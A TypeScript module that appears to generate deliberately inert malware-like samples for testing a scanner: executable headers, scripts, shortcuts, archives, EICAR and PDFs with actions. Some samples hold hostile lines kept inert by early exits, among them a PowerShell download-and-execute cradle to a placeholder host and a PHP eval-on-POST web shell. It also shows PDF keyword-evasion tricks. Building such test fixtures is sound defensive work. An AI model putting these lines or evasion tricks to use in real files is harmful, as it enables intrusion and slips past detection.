/**
 * What a variant hides: something that a computer would run, open or follow, without anything in it that could do harm. Programs are headers
 * without code, scripts end before they begin, documents have actions that name nothing. Sizes are those of real ones: a header alone is no attack.
 */
import { deflateSync } from 'node:zlib';
import * as inert from '../recipes/inert.ts';
import { zipOf, tarOf } from './containers.ts';

export type PayloadKind = 'program' | 'script' | 'page' | 'shortcut' | 'signature' | 'container' | 'document';
export type Random = () => number;

export interface Payload {
  readonly name: string;
  readonly kind: PayloadKind;
  /** Consists of characters that people type: it can also be written in UTF-16. */
  readonly isText: boolean;
  /** File name, where a container needs one. */
  readonly file: string;
  bytes(random: Random): Buffer;
}

export const below = (random: Random, bound: number): number => Math.floor(random() * bound);
export const pick = <Value>(random: Random, list: readonly Value[]): Value => list[below(random, list.length)]!;

/** A header and what would be its code, which no header points to: a few KiB that compress as little as code does. */
function body(header: Uint8Array, random: Random): Buffer {
  return Buffer.concat([header, noise(1200 + below(random, 3000), random)]);
}
function noise(length: number, random: Random): Buffer {
  return Buffer.from(Uint8Array.from({ length }, () => below(random, 256)));
}

/** A COFF header with a section and no code, at 64 to 1024 bytes. */
function pe(random: Random): Buffer {
  const at = 64 + 8 * below(random, 60);
  const dos = Buffer.alloc(at);
  const header = inert.dosHeader(at);
  // Without the sentence about DOS mode, which any linker can leave out.
  if (random() < 0.5) dos.set(header.subarray(0, Math.min(at, 128)));
  else dos.set(header.subarray(0, 64));
  dos.writeUInt32LE(at, 0x3c);
  return body(Buffer.concat([dos, inert.peHeader()]), random);
}

/** No more than a loader asks for: where the second header is, and a first section that may stand anywhere behind it. */
function barePE(random: Random): Buffer {
  const at = 4 * (16 + below(random, 60));
  const header = Buffer.from(inert.peHeader());
  header.writeUInt16LE(0xf0 + 8 * (1 + below(random, 40)), 20);
  const dos = noise(at, random);
  dos.write('MZ', 0, 'latin1');
  dos.writeUInt32LE(at, 0x3c);
  return body(Buffer.concat([dos, header]), random);
}

/** No more than Linux asks for: magic, kind, machine, size of a program header. */
function bareELF(random: Random): Buffer {
  const header = Buffer.from(inert.elf(64, 1));
  header.set(noise(12, random), 4);
  header.set(noise(4, random), 20);
  return body(header, random);
}

/** Class file of Java 5 to 21: version, an empty constant pool. */
function javaClass(random: Random): Buffer {
  return body(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 49 + below(random, 17), 0, 1, 0, 0x21, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]), random);
}

/** A module with one custom section. */
function wasm(random: Random): Buffer {
  const size = 1200 + below(random, 2000);
  return Buffer.concat([inert.wasm(), Buffer.from([0, (size & 0x7f) | 0x80, size >>> 7]), Buffer.from([4]), Buffer.from('name'), noise(size - 5, random)]);
}

/** Comment lines, so that a script has the length of one. */
function remarks(random: Random, mark: string, end: string): string {
  const words = ['table', 'gantry', 'update', 'cache', 'series', 'loader', 'policy', 'session', 'payload', 'target'];
  return Array.from({ length: 6 + below(random, 30) }, () => `${mark} ${Array.from({ length: 8 }, () => pick(random, words)).join(' ')}${end}`).join('');
}

const shells = ['/bin/sh', '/bin/bash', '/usr/bin/env python3', '/usr/bin/perl', '/usr/bin/env node'];

function script(name: string, file: string, text: (random: Random) => string): Payload {
  return { name, kind: 'script', isText: true, file, bytes: (random) => Buffer.from(text(random), 'latin1') };
}
function page(name: string, file: string, text: (random: Random) => string): Payload {
  return { ...script(name, file, text), kind: 'page' };
}
function program(name: string, file: string, bytes: Payload['bytes']): Payload {
  return { name, kind: 'program', isText: false, file, bytes };
}

/** A PDF of one empty page whose catalogue has an action. */
function pdfWith(action: string, random: Random, more = ''): Buffer {
  const objects = [`<</Type/Catalog/Pages 2 0 R${action}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>', ...(more === '' ? [] : [more])];
  let text = `%PDF-1.${4 + below(random, 4)}\n`;
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}
const document = (name: string, file: string, bytes: Payload['bytes']): Payload => ({ name, kind: 'document', isText: false, file, bytes });

/** A string of a PDF, escaped in one of the ways that readers undo. */
function hiddenName(random: Random, name: string): string {
  const at = below(random, name.length);
  return random() < 0.5 ? name : `${name.slice(0, at)}#${name.charCodeAt(at).toString(16).padStart(2, '0')}${name.slice(at + 1)}`;
}

/** The objects with the action are inside a compressed object stream, where a search for words does not see them (ISO 32000-1 §7.5.7). */
function pdfPacked(random: Random): Buffer {
  const inside = `4 0 <</S/${hiddenName(random, 'JavaScript')}/JS(app.beep\\(0\\);)>>`;
  const stream = deflateSync(Buffer.from(inside));
  const packed = `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${stream.length}>>\nstream\n${stream.toString('latin1')}\nendstream`;
  return pdfWith('/OpenAction 4 0 R', random, packed);
}

export const payloads: readonly Payload[] = [
  program('pe', 'setup.exe', pe),
  program('pe-bare', 'setup.exe', barePE),
  program('elf-bare', 'run', bareELF),
  program('elf', 'run', (random) => body(inert.elf(64, 1), random)),
  program('mach-o', 'run', (random) => body(inert.machO(), random)),
  program('mach-o-fat', 'run', (random) => body(inert.machOFat(), random)),
  program('dex', 'classes.dex', (random) => body(inert.dex(), random)),
  program('wasm', 'run.wasm', wasm),
  program('java-class', 'Run.class', javaClass),
  script('shell', 'run.sh', (random) => `#!${pick(random, shells)}\n${remarks(random, '#', '\n')}exit 0\n`),
  script('powershell', 'run.ps1', (random) => `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${Buffer.from('exit', 'utf16le').toString('base64')}\r\n${remarks(random, '#', '\r\n')}`),
  script('powershell-cmdlets', 'run.ps1', (random) => `${remarks(random, '#', '\r\n')}return\r\nInvoke-Expression (New-Object Net.WebClient).DownloadString('https://example.invalid/')\r\n`),
  script('batch', 'run.bat', (random) => `@echo off\r\nexit /b 0\r\n${remarks(random, 'rem', '\r\n')}cmd.exe /c start "" setup.exe\r\n`),
  script('vbs', 'run.vbs', (random) => `WScript.Quit 0\r\n${remarks(random, "'", '\r\n')}Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc.exe", 0\r\n`),
  script('jscript', 'run.js', (random) => `${remarks(random, '//', '\r\n')}if (false) { var shell = new ActiveXObject("WScript.Shell"); shell.Run("calc.exe"); }\r\n`),
  script('php', 'run.php', (random) => `<?php exit; ${remarks(random, '//', '\n')} eval($_POST['x']); ?>\n`),
  page('html-script', 'page.html', (random) => `<!DOCTYPE html>\n<html><head><script>// ${remarks(random, '//', '\n')}</script></head><body></body></html>\n`),
  page('svg-script', 'page.svg', (random) => `<svg xmlns="http://www.w3.org/2000/svg"><!-- ${remarks(random, ' ', '\n')}--><script>// nothing\n</script></svg>\n`),
  page('hta', 'run.hta', (random) => `<html><head><hta:application id="a" windowstate="minimize"/>\n<script language="VBScript">\n${remarks(random, "'", '\n')}window.close\n</script></head></html>\n`),
  { name: 'lnk', kind: 'shortcut', isText: false, file: 'report.lnk', bytes: (random) => Buffer.concat([inert.lnk(), noise(300 + below(random, 900), random)]) },
  { ...script('autorun', 'autorun.inf', (random) => `[autorun]\r\n${remarks(random, ';', '\r\n')}open=setup.exe\r\nicon=setup.exe,0\r\n`), kind: 'shortcut' },
  { ...script('url-shortcut', 'report.url', (random) => `[InternetShortcut]\r\nURL=file://example.invalid/share/setup.exe\r\n${remarks(random, ';', '\r\n')}`), kind: 'shortcut' },
  { name: 'eicar', kind: 'signature', isText: true, file: 'eicar.com', bytes: () => inert.eicar() },
  { name: 'zip', kind: 'container', isText: false, file: 'parts.zip', bytes: (random) => zipOf([{ name: 'setup.exe', bytes: pe(random) }], random() < 0.5 ? 'stored' : 'deflated') },
  { name: 'rar', kind: 'container', isText: false, file: 'parts.rar', bytes: (random) => body(inert.rar(), random) },
  { name: '7z', kind: 'container', isText: false, file: 'parts.7z', bytes: (random) => body(inert.sevenZip(), random) },
  { name: 'tar', kind: 'container', isText: false, file: 'parts.tar', bytes: (random) => tarOf([{ name: 'setup.exe', bytes: pe(random) }]) },
  document('ole', 'report.doc', (random) => Buffer.concat([inert.ole(), noise(512 * (2 + below(random, 4)), random)])),
  document('pdf-javascript', 'report.pdf', (random) => pdfWith(`/OpenAction<</S/${hiddenName(random, 'JavaScript')}/${hiddenName(random, 'JS')}(app.beep\\(0\\);)>>`, random)),
  document('pdf-launch', 'report.pdf', (random) => pdfWith(`/OpenAction<</S/${hiddenName(random, 'Launch')}/F(setup.exe)>>`, random)),
  document('pdf-embedded', 'report.pdf', (random) => pdfWith('/Names<</EmbeddedFiles<</Names[(setup.exe)4 0 R]>>>>', random, '<</Type/Filespec/F(setup.exe)/EF<</F 3 0 R>>>>')),
  document('pdf-packed', 'report.pdf', pdfPacked),
];
